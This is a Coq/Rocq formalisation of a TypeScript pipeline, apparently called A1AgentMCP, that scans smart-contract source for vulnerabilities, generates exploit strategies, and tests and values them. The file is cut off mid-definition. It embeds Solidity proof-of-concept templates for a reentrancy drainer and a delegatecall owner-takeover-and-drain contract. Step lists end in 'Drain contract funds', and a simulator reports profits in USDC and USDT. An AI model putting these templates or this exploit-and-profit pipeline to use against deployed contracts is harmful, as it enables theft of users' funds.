(** * A1AgentMCP: the exploit analysis and valuation pipeline

    A shallow embedding of the TypeScript sources

      - server/mcp/tools/concrete-execution.ts  (scanner, strategy factory, selector)
      - server/services/forge.ts                (execution harness and its simulator;
                                                 unnamed/part_003)
      - server/mcp/tools/revenue-normalizer.ts  (valuation and risk scoring;
                                                 unnamed/part_001)
      - server/services/price-oracle.ts         (the interface the normaliser calls)
      - server/mcp/server.ts                    (pipeline orchestrator)

    and the properties of the natural-language specification stated over it. *)

From Stdlib Require Import ZArith QArith Qround Qabs List Sorted String Ascii Bool Lia Lqa.
From Corelib Require PrimFloat FloatOps SpecFloat.
Import ListNotations.
Open Scope Z_scope.

(* ================================================================== *)
(** ** JavaScript numbers *)
(* ================================================================== *)

(** A finite JavaScript number is modelled by its exact rational value.
    Every arithmetic operation of the source is the exact operation
    followed by the rounding [rnd] of the arithmetic in force:

      - [Binary64]: IEEE 754 double precision, round to nearest, ties to
        even -- what the JavaScript engine computes (for finite values
        below 2^1024; NaN, the infinities and the sign of zero are not
        represented);
      - [Exact]: no rounding at all, the idealised decimal arithmetic. *)

Module JsNum.

Class Arith : Type := { rnd : Q -> Q }.

(** 2^e as a rational, for any integer e. *)
Definition pow2 (e : Z) : Q :=
  if 0 <=? e then inject_Z (2 ^ e) else 1 # Z.to_pos (2 ^ (- e)).

(** floor (log2 q), for q > 0. *)
Definition ilog2 (q : Q) : Z :=
  let e := Z.log2 (Qnum q) - Z.log2 (Zpos (Qden q)) in
  if Qle_bool (pow2 e) q then e else e - 1.

(** Nearest integer, ties to the even one. *)
Definition roundHalfEven (q : Q) : Z :=
  let f := Qfloor q in
  match Qcompare (q - inject_Z f) (1 # 2) with
  | Lt => f
  | Gt => f + 1
  | Eq => if Z.even f then f else f + 1
  end.

(** The double nearest to a rational: 53 bits of mantissa, exponents down
    to the subnormal range. *)
Definition round64 (q : Q) : Q :=
  if Qnum q =? 0 then 0%Q
  else
    let a := Qabs q in
    let e := Z.max (ilog2 a - 52) (-1074) in
    let r := (inject_Z (roundHalfEven (a / pow2 e)) * pow2 e)%Q in
    Qred (if Qnum q <? 0 then - r else r)%Q.

Definition Binary64 : Arith := {| rnd := round64 |}.
Definition Exact : Arith := {| rnd := Qred |}.

Section Ops.
Context {A : Arith}.

(** A numeric literal of the source text. *)
Definition lit (q : Q) : Q := rnd q.

Definition add (x y : Q) : Q := rnd (x + y).
Definition sub (x y : Q) : Q := rnd (x - y).
Definition mul (x y : Q) : Q := rnd (x * y).
Definition div (x y : Q) : Q := rnd (x / y).

(** [x > y] and [x < y]. *)
Definition gt (x y : Q) : bool := negb (Qle_bool x y).
Definition lt (x y : Q) : bool := negb (Qle_bool y x).

(** [Math.min], [Math.max] (no rounding: the result is an argument). *)
Definition Math_min (x y : Q) : Q := if Qle_bool x y then x else y.
Definition Math_max (x y : Q) : Q := if Qle_bool x y then y else x.

(** Truthiness of a number: every number but zero. *)
Definition truthy (x : Q) : bool := negb (Qeq_bool x 0).

(** The decimal numeral printed by [x.toFixed(d)]: the multiple of 10^-d
    nearest to x, a tie going away from zero. *)
Definition roundHalfAway (q : Q) : Z :=
  if Qle_bool 0 q then Qfloor (q + (1 # 2)) else - Qfloor (- q + (1 # 2)).

Definition toFixed (d : nat) (x : Q) : Q :=
  roundHalfAway (x * inject_Z (10 ^ Z.of_nat d)) # Z.to_pos (10 ^ Z.of_nat d).

(** [Number(x.toFixed(d))]: the numeral read back as a number. *)
Definition Number_toFixed (d : nat) (x : Q) : Q := rnd (toFixed d x).

(** [Math.floor]. *)
Definition Math_floor (x : Q) : Q := inject_Z (Qfloor x).

End Ops.

End JsNum.

(* ================================================================== *)
(** ** Regular expressions *)
(* ================================================================== *)

(** The fragment of JavaScript regular expressions the sources use, with
    the backtracking semantics of the language: alternatives are tried left
    to right, a greedy star prefers one more iteration, a lazy one prefers
    to stop, and the first successful path wins.  Texts are sequences of
    bytes, the UTF-8 encoding of the text; under the [i] flag
    ([ignoreCase]) characters compare without regard to ASCII case, and
    [\s] is a white space or a line terminator of the language, in ASCII
    or beyond. *)

Module Regex.

Inductive re : Type :=
| Eps
| Chr (c : ascii)                       (* a literal character *)
| Cls (negated : bool) (cs : list ascii) (* [...] and [^...] *)
| AnyChar                               (* [\s\S] *)
| Space                                 (* \s *)
| Digit                                 (* \d *)
| Seq (r1 r2 : re)
| Alt (r1 r2 : re)
| Star (greedy : bool) (r : re)         (* r* and r*? *)
| NotAhead (r : re).                    (* (?!r) *)

Definition lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

Definition eqc (ignoreCase : bool) (a b : ascii) : bool :=
  if ignoreCase then Ascii.eqb (lower a) (lower b) else Ascii.eqb a b.

(** The white space of ASCII: the characters 9 to 13 and the space. *)
Definition isSpace (c : ascii) : bool :=
  let n := nat_of_ascii c in ((9 <=? n)%nat && (n <=? 13)%nat) || (n =? 32)%nat.

(** The white space beyond ASCII, in the bytes of UTF-8: U+00A0, U+1680,
    U+2000 to U+200A, U+2028, U+2029, U+202F, U+205F, U+3000 and U+FEFF. *)
Definition wideSpaces : list (list ascii) :=
  map (map ascii_of_nat)
    [ [194; 160]; [225; 154; 128];
      [226; 128; 128]; [226; 128; 129]; [226; 128; 130]; [226; 128; 131]; [226; 128; 132];
      [226; 128; 133]; [226; 128; 134]; [226; 128; 135]; [226; 128; 136]; [226; 128; 137];
      [226; 128; 138];
      [226; 128; 168]; [226; 128; 169]; [226; 128; 175]; [226; 129; 159];
      [227; 128; 128]; [239; 187; 191] ]%nat.

(** The text that follows the bytes [w], in a text that begins with them. *)
Fixpoint after (w s : list ascii) : option (list ascii) :=
  match w, s with
  | [], _ => Some s
  | a :: w', b :: s' => if Ascii.eqb a b then after w' s' else None
  | _ :: _, [] => None
  end.

(** The first of the texts that follow one of the words. *)
Fixpoint afterOneOf (ws : list (list ascii)) (s : list ascii) : option (list ascii) :=
  match ws with
  | [] => None
  | w :: ws' =>
      match after w s with
      | Some rest => Some rest
      | None => afterOneOf ws' s
      end
  end.

(** One white space character at the head of a text: the text after it. *)
Definition space (s : list ascii) : option (list ascii) :=
  match s with
  | [] => None
  | a :: s' => if isSpace a then Some s' else afterOneOf wideSpaces s
  end.

Definition isDigit (c : ascii) : bool :=
  let n := nat_of_ascii c in (48 <=? n)%nat && (n <=? 57)%nat.

(** One character against a one-character pattern. *)
Definition step1 (p : ascii -> bool) (R : Type) (s : list ascii)
  (k : list ascii -> option R) : option R :=
  match s with
  | a :: s' => if p a then k s' else None
  | [] => None
  end.

(** [run r R s k]: match [r] at the head of [s], then hand the rest of
    the text to the continuation [k]; [None] when every path fails. *)
Fixpoint run (ignoreCase : bool) (r : re) :
  forall R : Type, list ascii -> (list ascii -> option R) -> option R :=
  match r with
  | Eps => fun R s k => k s
  | Chr c => step1 (eqc ignoreCase c)
  | Cls negated cs => step1 (fun a => xorb negated (existsb (eqc ignoreCase a) cs))
  | AnyChar => step1 (fun _ => true)
  | Space => fun R s k =>
      match space s with
      | Some s' => k s'
      | None => None
      end
  | Digit => step1 isDigit
  | Seq r1 r2 => fun R s k => run ignoreCase r1 R s (fun s' => run ignoreCase r2 R s' k)
  | Alt r1 r2 => fun R s k =>
      match run ignoreCase r1 R s k with
      | Some x => Some x
      | None => run ignoreCase r2 R s k
      end
  | Star greedy r1 => fun R s k =>
      (fix loop (fuel : nat) (s : list ascii) : option R :=
         match fuel with
         | O => k s
         | S fuel' =>
             let more :=
               run ignoreCase r1 R s (fun s' =>
                 if (List.length s' <? List.length s)%nat then loop fuel' s' else None) in
             if greedy
             then match more with Some x => Some x | None => k s end
             else match k s with Some x => Some x | None => more end
         end) (S (List.length s)) s
  | NotAhead r1 => fun R s k =>
      match run ignoreCase r1 unit s (fun _ => Some tt) with
      | Some _ => None
      | None => k s
      end
  end.

(** A literal word. *)
Fixpoint word (cs : list ascii) : re :=
  match cs with
  | [] => Eps
  | [c] => Chr c
  | c :: cs' => Seq (Chr c) (word cs')
  end.

Definition lit (w : string) : re := word (list_ascii_of_string w).

(** (?:a|b|...) *)
Fixpoint oneOf (rs : list re) : re :=
  match rs with
  | [] => NotAhead Eps
  | [r] => r
  | r :: rs' => Alt r (oneOf rs')
  end.

Fixpoint seq (rs : list re) : re :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rs' => Seq r (seq rs')
  end.

(** The match starting exactly at the head of [s]: the text left after it. *)
Definition matchHere (ignoreCase : bool) (r : re) (s : list ascii) : option (list ascii) :=
  run ignoreCase r (list ascii) s (fun rest => Some rest).

(** [RegExp.prototype.exec]: the leftmost match in [s]; the matched text
    and what follows it. *)
Fixpoint exec (ignoreCase : bool) (r : re) (s : list ascii) :
  option (list ascii * list ascii) :=
  match matchHere ignoreCase r s with
  | Some rest => Some (firstn (List.length s - List.length rest) s, rest)
  | None => match s with
            | [] => None
            | _ :: s' => exec ignoreCase r s'
            end
  end.

(** The successive matches of a pattern with the [g] flag: after a match
    the search resumes where it ended (one character further after an
    empty match). *)
Fixpoint matchesFrom (fuel : nat) (r : re) (s : list ascii) : list (list ascii) :=
  match fuel with
  | O => []
  | S fuel' =>
      match exec true r s with
      | None => []
      | Some (m, rest) =>
          m :: match m, rest with
               | [], [] => []
               | [], _ :: rest' => matchesFrom fuel' r rest'
               | _, _ => matchesFrom fuel' r rest
               end
      end
  end.

(** [text.match(/r/gi)]: [null] when nothing matches, the list of the
    matched texts otherwise. *)
Definition matchAll (r : re) (text : string) : option (list string) :=
  let s := list_ascii_of_string text in
  match matchesFrom (S (List.length s)) r s with
  | [] => None
  | ms => Some (map string_of_list_ascii ms)
  end.

(** [text.match(/r/)], no flag: the text of the first match. *)
Definition matchFirst (r : re) (text : string) : option string :=
  match exec false r (list_ascii_of_string text) with
  | Some (m, _) => Some (string_of_list_ascii m)
  | None => None
  end.

(** [text.includes(w)], case-sensitive. *)
Fixpoint includesFrom (w s : list ascii) : bool :=
  (fix pre (w s : list ascii) : bool :=
     match w, s with
     | [], _ => true
     | a :: w', b :: s' => Ascii.eqb a b && pre w' s'
     | _ :: _, [] => false
     end) w s
  || match s with
     | [] => false
     | _ :: s' => includesFrom w s'
     end.

Definition includes (text w : string) : bool :=
  includesFrom (list_ascii_of_string w) (list_ascii_of_string text).

End Regex.

Open Scope string_scope.

(* ================================================================== *)
(** ** Values shared by the components *)
(* ================================================================== *)

(** The outcome of a call that may throw (an [async] call that may
    reject): the returned value, or the message of the error thrown. *)
Inductive Result (T : Type) : Type :=
| Ok (value : T)
| Throw (message : string).
Arguments Ok {T} value.
Arguments Throw {T} message.

Definition bind {T U : Type} (c : Result T) (f : T -> Result U) : Result U :=
  match c with
  | Ok v => f v
  | Throw m => Throw m
  end.

Notation "'let!' x ':=' c 'in' k" := (bind c (fun x => k))
  (at level 10, x name, c at level 100, k at level 200).

(** The seven vulnerability categories: the keys of the [patterns],
    [typeMultipliers] and [strategies] tables. *)
Inductive VulnType : Type :=
| reentrancy | integerOverflow | accessControl | delegateCall
| uncheckedCall | priceOracle | flashLoan.

Definition VulnType_eqb (a b : VulnType) : bool :=
  match a, b with
  | reentrancy, reentrancy | integerOverflow, integerOverflow
  | accessControl, accessControl | delegateCall, delegateCall
  | uncheckedCall, uncheckedCall | priceOracle, priceOracle
  | flashLoan, flashLoan => true
  | _, _ => false
  end.

(** An element of [vulnerabilities] (a Finding of the specification). *)
Record Vulnerability : Type := {
  v_type : VulnType;
  v_severity : string;
  v_description : string;
  v_matches : nat;
  v_confidence : Q
}.

(** An exploit strategy. *)
Record Strategy : Type := {
  type : VulnType;
  severity : string;
  confidence : Q;
  description : string;
  proofOfConcept : string;
  estimatedProfit : string;
  requirements : list string;
  steps : list string
}.

(** An extracted token, as the harness reports it and as the normaliser's
    input schema accepts it. *)
Module Extracted.
Record ExtractedToken : Type := {
  address : string;
  amount : string;
  symbol : option string;
  decimals : option Z
}.
End Extracted.

(** The values held by the fields of the result objects. *)
Inductive JsValue : Type :=
| JUndefined
| JNull
| JBool (b : bool)
| JNum (q : Q)
| JStr (s : string)
| JStrings (l : list string)
| JTokens (l : list Extracted.ExtractedToken).

(** An object literal: its keys, in order, with their values. *)
Definition JsObject : Type := list (string * JsValue).

(** Property read [o.key]: [undefined] when the object has no such key. *)
Fixpoint get (key : string) (o : JsObject) : JsValue :=
  match o with
  | [] => JUndefined
  | (k, v) :: o' => if String.eqb k key then v else get key o'
  end.

Definition hasKey (key : string) (o : JsObject) : bool :=
  existsb (fun kv => String.eqb (fst kv) key) o.

(** Truthiness of a value. *)
Definition truthyValue (v : JsValue) : bool :=
  match v with
  | JUndefined | JNull => false
  | JBool b => b
  | JNum q => negb (Qeq_bool q 0)
  | JStr s => negb (String.eqb s EmptyString)
  | JStrings _ | JTokens _ => true
  end.

(* ================================================================== *)
(** ** ForgeService (server/services/forge.ts) *)
(* ================================================================== *)

Module ForgeService.

Import JsNum.

(** The argument of [testExploit]. *)
Record TestParams : Type := {
  contractAddress : string;
  chainId : Z;
  blockNumber : string;
  exploitCode : string;
  strategy : Strategy
}.

(** The successive values of [Math.random()], each in [0, 1). *)
Record Random : Type := { draw1 : Q; draw2 : Q; draw3 : Q }.

(** What running the forge toolchain in the test directory comes to. *)
Inductive ForgeRun : Type :=
| FilesFailed (message : string)      (* an operation on the test directory was rejected *)
| CommandFailed (message : string)    (* forge init / forge test exited non-zero *)
| TestOutput (stdout stderr : string). (* forge test exited with code 0 *)

Definition newline : ascii := ascii_of_nat 10.

(** [text.split('\n')] *)
Fixpoint splitLines (cur : list ascii) (s : list ascii) : list string :=
  match s with
  | [] => [string_of_list_ascii (rev cur)]
  | c :: s' =>
      if Ascii.eqb c newline
      then string_of_list_ascii (rev cur) :: splitLines [] s'
      else splitLines (c :: cur) s'
  end.

(** The text without the white space that begins it. *)
Fixpoint dropSpaces (fuel : nat) (s : list ascii) : list ascii :=
  match fuel with
  | O => s
  | S fuel' =>
      match Regex.space s with
      | Some s' => dropSpaces fuel' s'
      | None => s
      end
  end.

Definition trimStart (s : list ascii) : list ascii := dropSpaces (List.length s) s.

(** The text without the white space that ends it: it is cut where
    nothing but white space is left. *)
Fixpoint trimEnd (s : list ascii) : list ascii :=
  match s with
  | [] => []
  | c :: s' =>
      match trimStart s with
      | [] => []
      | _ :: _ => c :: trimEnd s'
      end
  end.

(** [line.trim()] *)
Definition trim (line : string) : string :=
  string_of_list_ascii (trimEnd (trimStart (list_ascii_of_string line))).

(** The decimal digits that end a text. *)
Definition trailingDigits (s : string) : list ascii :=
  rev ((fix take (l : list ascii) : list ascii :=
          match l with
          | c :: l' => if Regex.isDigit c then c :: take l' else []
          | [] => []
          end) (rev (list_ascii_of_string s))).

(** [parseInt] of a run of decimal digits. *)
Definition parseDigits (ds : list ascii) : Z :=
  fold_left (fun n c => 10 * n + (Z.of_nat (nat_of_ascii c) - 48)) ds 0.

(** /gas:\s*(\d+)/ and /Profit:\s*(\d+)/ *)
Definition labelled (label : string) : Regex.re :=
  Regex.seq [Regex.lit label; Regex.Star true Regex.Space;
             Regex.Digit; Regex.Star true Regex.Digit].

Section Forge.
Context {A : Arith}.

(** [Number.prototype.toString], the engine's printer of numbers. *)
Variable Number_toString : Q -> string.

(** The capture group 1 of a [labelled] match, through [parseInt]. *)
Definition parsedNumber (label stdout : string) : Q :=
  match Regex.matchFirst (labelled label) stdout with
  | Some m => lit (inject_Z (parseDigits (trailingDigits m)))
  | None => lit 0
  end.

Definition parseForgeOutput (stdout stderr : string) : JsObject :=
  let success := Regex.includes stdout "[PASS]" && negb (Regex.includes stdout "[FAIL]") in
  let gasUsed := parsedNumber "gas:" stdout in
  let profit := parsedNumber "Profit:" stdout in
  let trace :=
    map trim
      (filter (fun line => Regex.includes line "└─" || Regex.includes line "├─"
                           || Regex.includes line "│")
              (splitLines [] (list_ascii_of_string stdout))) in
  [ ("success", JBool success);
    ("gasUsed", JNum gasUsed);
    ("profit", JNum profit);
    ("extractedTokens", JTokens []);
    ("trace", JStrings trace);
    ("fullOutput", JStr stdout);
    ("errors", JStr stderr) ].

Definition simulateExploitTest (params : TestParams) (random : Random) : JsObject :=
  let confidence :=
    if truthy (confidence (strategy params)) then confidence (strategy params) else lit 50 in
  let success := gt confidence (add (lit 60) (mul (draw1 random) (lit 20))) in
  let baseGas := lit 100000 in
  let gasUsed := add baseGas (Math_floor (mul (draw2 random) (lit 200000))) in
  let profit :=
    if success then add (Math_floor (mul (draw3 random) (lit 1000000))) (lit 100000)
    else lit 0 in
  let extractedTokens :=
    if success then
      [ {| Extracted.address := "0xA0b86a33E6441E1c4B37d8c5C7e48a16c1111111";
           Extracted.amount := Number_toString (mul profit (lit (6 # 10)));
           Extracted.symbol := Some "USDC";
           Extracted.decimals := None |};
        {| Extracted.address := "0xdAC17F958D2ee523a2206206994597C13D831ec7";
           Extracted.amount := Number_toString (mul profit (lit (4 # 10)));
           Extracted.symbol := Some "USDT";
           Extracted.decimals := None |} ]
    else [] in
  [ ("success", JBool success);
    ("gasUsed", JNum gasUsed);
    ("profit", JNum profit);
    ("extractedTokens", JTokens extractedTokens);
    ("trace", JStrings
       (filter (fun line => negb (String.eqb line EmptyString))
          [ "├─ [0] ExploitTest::testExploit()";
            "│  ├─ [21000] TARGET::deposit{value: 1000000000000000000}()";
            if success then "│  │  └─ ← ()" else "│  │  └─ ← revert";
            if success then "│  ├─ [31000] TARGET::withdraw(1000000000000000000)"
            else "│  └─ ← revert";
            if success then "│  │  └─ ← ()" else EmptyString;
            if success then "│  └─ ← ()" else EmptyString ]));
    ("errorMessage", if success then JNull else JStr "Exploit failed during execution");
    ("simulationNote", JStr "This is a simulated result - Forge not available") ].

(** [runForgeTest]: the output of a passing run is parsed; a failing
    command is caught and reported as an unsuccessful result. *)
Definition runForgeTest (run : ForgeRun) : JsObject :=
  match run with
  | TestOutput stdout stderr => parseForgeOutput stdout stderr
  | CommandFailed message | FilesFailed message =>
      [ ("success", JBool false);
        ("errorMessage", JStr message);
        ("gasUsed", JNum (lit 0));
        ("profit", JNum (lit 0));
        ("extractedTokens", JTokens []);
        ("trace", JStrings []) ]
  end.

(** [testExploit]: the simulator when forge is not available, a real run
    otherwise; a failure to set the test directory up is rethrown. *)
Definition testExploit (forgeAvailable : bool) (run : ForgeRun) (random : Random)
  (params : TestParams) : Result JsObject :=
  if negb forgeAvailable then Ok (simulateExploitTest params random)
  else
    match run with
    | FilesFailed message => Throw ("Forge test execution failed: " ++ message)
    | _ => Ok (runForgeTest run)
    end.

End Forge.

End ForgeService.

(* ================================================================== *)
(** ** ConcreteExecution (server/mcp/tools/concrete-execution.ts) *)
(* ================================================================== *)

Module ConcreteExecution.

Import JsNum.

(** The argument of [execute], as [inputSchema] types it. *)
Record Args : Type := {
  contractAddress : string;
  chainId : Z;
  blockNumber : option string;
  sourceCode : string
}.

Definition isHex (c : ascii) : bool :=
  let n := nat_of_ascii c in
  Regex.isDigit c || ((65 <=? n)%nat && (n <=? 70)%nat) || ((97 <=? n)%nat && (n <=? 102)%nat).

(** /^0x[a-fA-F0-9]{40}$/ *)
Definition validAddress (a : string) : bool :=
  match list_ascii_of_string a with
  | c0 :: c1 :: hex =>
      Ascii.eqb c0 "0"%char && Ascii.eqb c1 "x"%char
      && (List.length hex =? 40)%nat && forallb isHex hex
  | _ => false
  end.

(** [inputSchema.parse]: a malformed address or a chain id that is not
    positive is rejected. *)
Definition parseArgs (args : Args) : Result Args :=
  if validAddress (contractAddress args) && (0 <? chainId args)%Z
  then Ok args else Throw "ZodError".

(** An entry of the [patterns] table. *)
Record PatternConfig : Type := {
  pattern : Regex.re;
  p_severity : string;
  p_description : string
}.

Definition anything : Regex.re := Regex.Star false Regex.AnyChar.   (* [\s\S]*? *)

(** (?!\s*(?:require|assert)) *)
Definition notChecked : Regex.re :=
  Regex.NotAhead (Regex.Seq (Regex.Star true Regex.Space)
                            (Regex.oneOf [Regex.lit "require"; Regex.lit "assert"])).

(** The [patterns] table, in the order of its declaration, which is the
    order [Object.entries] enumerates it in. *)
Definition patterns : list (VulnType * PatternConfig) :=
  [ (reentrancy,
     {| pattern := Regex.seq [ Regex.oneOf [Regex.lit "call"; Regex.lit "transfer"; Regex.lit "send"];
                               anything;
                               Regex.oneOf [Regex.lit "before"; Regex.lit "after"];
                               anything;
                               Regex.oneOf [Regex.lit "state"; Regex.lit "balance"] ];
        p_severity := "critical";
        p_description := "Potential reentrancy vulnerability detected" |});
    (integerOverflow,
     {| pattern := Regex.seq [ Regex.oneOf [Regex.lit "++"; Regex.lit "--"; Regex.lit "+=";
                                            Regex.lit "-="; Regex.lit "*="; Regex.lit "/="];
                               notChecked ];
        p_severity := "high";
        p_description := "Potential integer overflow/underflow vulnerability" |});
    (accessControl,
     {| pattern := Regex.seq [ Regex.oneOf [Regex.lit "onlyOwner"; Regex.lit "onlyAdmin";
                                            Regex.lit "modifier"];
                               anything;
                               Regex.oneOf [Regex.lit "public"; Regex.lit "external"] ];
        p_severity := "high";
        p_description := "Access control bypass potential" |});
    (delegateCall,
     {| pattern := Regex.lit "delegatecall";
        p_severity := "critical";
        p_description := "Dangerous delegatecall usage detected" |});
    (uncheckedCall,
     {| pattern := Regex.seq [ Regex.lit ".call(";
                               Regex.Star true (Regex.Cls true [")"%char]);
                               Regex.Chr ")"; notChecked ];
        p_severity := "medium";
        p_description := "Unchecked external call detected" |});
    (priceOracle,
     {| pattern := Regex.seq [ Regex.oneOf [Regex.lit "price"; Regex.lit "oracle"; Regex.lit "twap"];
                               anything;
                               Regex.oneOf [Regex.lit "manipulation"; Regex.lit "attack"] ];
        p_severity := "high";
        p_description := "Price oracle manipulation vulnerability" |});
    (flashLoan,
     {| pattern := Regex.seq [ Regex.oneOf [Regex.lit "flashloan"; Regex.lit "flash"; Regex.lit "loan"];
                               anything;
                               Regex.oneOf [Regex.lit "arbitrage"; Regex.lit "exploit"] ];
        p_severity := "medium";
        p_description := "Flash loan exploit pattern detected" |}) ].

Definition protectivePatterns : list Regex.re :=
  [ Regex.lit "require("; Regex.lit "assert("; Regex.lit "revert(";
    Regex.lit "nonReentrant"; Regex.lit "SafeMath"; Regex.lit "OpenZeppelin" ].

(** The number of matches of the protective patterns in the text. *)
Definition protectionCount (sourceCode : string) : nat :=
  fold_left
    (fun count pattern =>
       match Regex.matchAll pattern sourceCode with
       | Some matches => (count + List.length matches)%nat
       | None => count
       end)
    protectivePatterns 0%nat.

(** A count of matches as a number.  Counts and their small multiples are
    integers far below 2^53, on which every arithmetic is exact. *)
Definition count (n : nat) : Q := inject_Z (Z.of_nat n).

(** The proof-of-concept templates, line by line. *)
Definition nl : string := String (ascii_of_nat 10) EmptyString.
Definition dq : string := String (ascii_of_nat 34) EmptyString.

Definition reentrancyPoc : string :=
  String.concat nl
  [ EmptyString;
    "// SPDX-License-Identifier: MIT";
    "pragma solidity ^0.8.0;";
    EmptyString;
    "interface ITarget {";
    "    function withdraw(uint256 amount) external;";
    "    function deposit() external payable;";
    "}";
    EmptyString;
    "contract ReentrancyExploit {";
    "    ITarget target;";
    "    uint256 public attackCount = 0;";
    "    uint256 public maxAttacks = 10;";
    "    ";
    "    constructor(address _target) {";
    "        target = ITarget(_target);";
    "    }";
    "    ";
    "    function attack() external payable {";
    "        target.deposit{value: msg.value}();";
    "        target.withdraw(msg.value);";
    "    }";
    "    ";
    "    receive() external payable {";
    "        if (attackCount < maxAttacks && address(target).balance >= msg.value) {";
    "            attackCount++;";
    "            target.withdraw(msg.value);";
    "        }";
    "    }";
    "    ";
    "    function withdrawAll() external {";
    "        payable(msg.sender).transfer(address(this).balance);";
    "    }";
    "}" ].

Definition delegateCallPoc : string :=
  String.concat nl
  [ EmptyString;
    "// SPDX-License-Identifier: MIT";
    "pragma solidity ^0.8.0;";
    EmptyString;
    "contract DelegateCallExploit {";
    "    address public target;";
    "    ";
    "    constructor(address _target) {";
    "        target = _target;";
    "    }";
    "    ";
    "    function exploit() external {";
    "        // Craft malicious calldata to overwrite storage";
    "        bytes memory data = abi.encodeWithSignature(" ++ dq ++ "setOwner(address)" ++ dq ++ ", address(this));";
    "        ";
    "        // Execute delegatecall to overwrite owner storage slot";
    "        (bool success,) = target.delegatecall(data);";
    "        require(success, " ++ dq ++ "Exploit failed" ++ dq ++ ");";
    "    }";
    "    ";
    "    function drain() external {";
    "        // After becoming owner, drain the contract";
    "        (bool success,) = target.call(abi.encodeWithSignature(" ++ dq ++ "withdraw()" ++ dq ++ "));";
    "        require(success, " ++ dq ++ "Drain failed" ++ dq ++ ");";
    "    }";
    "}" ].

Definition priceOraclePoc : string :=
  String.concat nl
  [ EmptyString;
    "// SPDX-License-Identifier: MIT";
    "pragma solidity ^0.8.0;";
    EmptyString;
    "import " ++ dq ++ "./interfaces/IFlashLoanReceiver.sol" ++ dq ++ ";";
    EmptyString;
    "contract PriceOracleExploit is IFlashLoanReceiver {";
    "    address public target;";
    "    address public dex;";
    "    ";
    "    constructor(address _target, address _dex) {";
    "        target = _target;";
    "        dex = _dex;";
    "    }";
    "    ";
    "    function executeOperation(";
    "        address[] calldata assets,";
    "        uint256[] calldata amounts,";
    "        uint256[] calldata premiums,";
    "        address initiator,";
    "        bytes calldata params";
    "    ) external override returns (bool) {";
    "        // Manipulate DEX price";
    "        // Execute target contract function at manipulated price";
    "        // Restore price";
    "        // Repay flash loan";
    "        return true;";
    "    }";
    "    ";
    "    function attack() external {";
    "        // Initiate flash loan to manipulate price oracle";
    "        bytes memory params = " ++ dq ++ dq ++ ";";
    "        // Call flash loan";
    "    }";
    "}" ].

Section Scanner.
Context {A : Arith}.

Definition typeMultipliers (t : VulnType) : Q :=
  match t with
  | reentrancy => lit (15 # 10)
  | delegateCall => lit (18 # 10)
  | accessControl => lit (12 # 10)
  | integerOverflow => lit (11 # 10)
  | priceOracle => lit (14 # 10)
  | uncheckedCall => lit 1
  | flashLoan => lit (13 # 10)
  end.

(** [calculateConfidence], on the number of protective matches of the text. *)
Definition confidenceOf (t : VulnType) (matches protection : nat) : Q :=
  let baseConfidence := lit 30 in
  let baseConfidence :=
    mul baseConfidence
        (if truthy (typeMultipliers t) then typeMultipliers t else lit 1) in
  let baseConfidence := add baseConfidence (Math_min (count (matches * 10)) (lit 30)) in
  let baseConfidence := sub baseConfidence (Math_min (count (protection * 5)) (lit 20)) in
  Math_max (Math_min baseConfidence (lit 95)) (lit 5).

Definition calculateConfidence (t : VulnType) (matches : nat) (sourceCode : string) : Q :=
  confidenceOf t matches (protectionCount sourceCode).

(** One turn of the loop of [analyzeForVulnerabilities]: the entry pushed
    when the pattern of a category matches. *)
Definition scanPattern (sourceCode : string) (entry : VulnType * PatternConfig) :
  list Vulnerability :=
  let (t, config) := entry in
  match Regex.matchAll (pattern config) sourceCode with
  | Some matches =>
      [ {| v_type := t;
           v_severity := p_severity config;
           v_description := p_description config;
           v_matches := List.length matches;
           v_confidence := calculateConfidence t (List.length matches) sourceCode |} ]
  | None => []
  end.

(** The [vulnerabilities] of [analyzeForVulnerabilities]: the entries
    pushed, in the order of the table. *)
Definition analyzeForVulnerabilities (sourceCode : string) : list Vulnerability :=
  flat_map (scanPattern sourceCode) patterns.

Definition generateReentrancyExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := reentrancy;
     severity := "critical";
     confidence := v_confidence vulnerability;
     description := "Reentrancy exploit targeting withdraw functions";
     proofOfConcept := reentrancyPoc;
     estimatedProfit := "High";
     requirements := ["Contract must have withdraw function"; "Insufficient reentrancy protection"];
     steps := ["Deploy exploit contract"; "Deposit funds to target contract";
               "Call withdraw function"; "Exploit reentrancy in receive/fallback";
               "Drain contract funds"] |}.

Definition generateDelegateCallExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := delegateCall;
     severity := "critical";
     confidence := v_confidence vulnerability;
     description := "Delegatecall exploit to overwrite storage and gain control";
     proofOfConcept := delegateCallPoc;
     estimatedProfit := "Very High";
     requirements := ["Contract uses delegatecall with user input"; "Insufficient input validation"];
     steps := ["Identify delegatecall usage"; "Craft malicious payload";
               "Overwrite critical storage slots"; "Gain administrative control";
               "Drain contract funds"] |}.

Definition generateAccessControlExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := accessControl;
     severity := "high";
     confidence := mul (v_confidence vulnerability) (lit (8 # 10));
     description := "Access control bypass attempt";
     proofOfConcept := "// Access control exploit would be contract-specific";
     estimatedProfit := "Medium";
     requirements := ["Flawed access control implementation"];
     steps := ["Analyze access control patterns"; "Find bypass methods";
               "Execute privileged functions"] |}.

Definition generateOverflowExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := integerOverflow;
     severity := "high";
     confidence := mul (v_confidence vulnerability) (lit (7 # 10));
     description := "Integer overflow/underflow exploit";
     proofOfConcept := "// Overflow exploit would target specific arithmetic operations";
     estimatedProfit := "Medium";
     requirements := ["Arithmetic operations without SafeMath"; "Solidity version < 0.8.0"];
     steps := ["Identify vulnerable arithmetic"; "Craft overflow conditions";
               "Manipulate contract state"] |}.

Definition generatePriceOracleExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := priceOracle;
     severity := "high";
     confidence := v_confidence vulnerability;
     description := "Price oracle manipulation using flash loans";
     proofOfConcept := priceOraclePoc;
     estimatedProfit := "Very High";
     requirements := ["Contract relies on manipulable price oracle"; "Flash loan availability"];
     steps := ["Identify price oracle dependency"; "Calculate manipulation cost";
               "Execute flash loan attack"; "Manipulate price oracle";
               "Execute profitable transaction"; "Restore price and repay loan"] |}.

Definition generateUncheckedCallExploit (vulnerability : Vulnerability) : Strategy :=
  {| type := uncheckedCall;
     severity := "medium";
     confidence := mul (v_confidence vulnerability) (lit (6 # 10));
     description := "Unchecked external call exploitation";
